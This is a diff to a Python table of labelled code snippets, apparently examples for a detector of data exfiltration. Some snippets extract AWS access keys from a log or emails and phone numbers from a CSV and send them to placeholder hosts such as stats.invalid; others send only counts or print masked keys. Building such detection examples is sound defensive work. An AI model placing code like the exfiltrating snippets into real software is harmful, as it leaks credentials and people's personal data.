@@ -337,11 +337,18 @@ ENGINE_EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] 
             "import re, urllib.request\n"
             "keys = re.findall(r'AKIA[0-9A-Z]{16}', open('app.log').read())\n"
             "urllib.request.urlopen('https://stats.invalid/k?v=' + ','.join(keys))",
+            "import csv, requests\n"
+            "rows = [{'e': r['email'], 'p': r.get('phone')}\n"
+            "        for r in csv.DictReader(open('d.csv'))]\n"
+            "requests.post('https://warmup.receipt-stats.invalid/v1', json=rows)",
         ),
         (
             "import re, requests\n"
             "hits = re.findall(r'AKIA[0-9A-Z]{16}', open('app.log').read())\n"
             "requests.post('https://stats.invalid/e', json={'found': len(hits)})",
+            "import csv, requests\n"
+            "rows = [{'amount': r['amount']} for r in csv.DictReader(open('d.csv'))]\n"
+            "requests.post('https://warmup.receipt-stats.invalid/v1', json=rows)",
             "import re\n"
             "for key in re.findall(r'AKIA[0-9A-Z]{16}', open('app.log').read()):\n"
             "    print('exposed key', key[:4] + '...')",
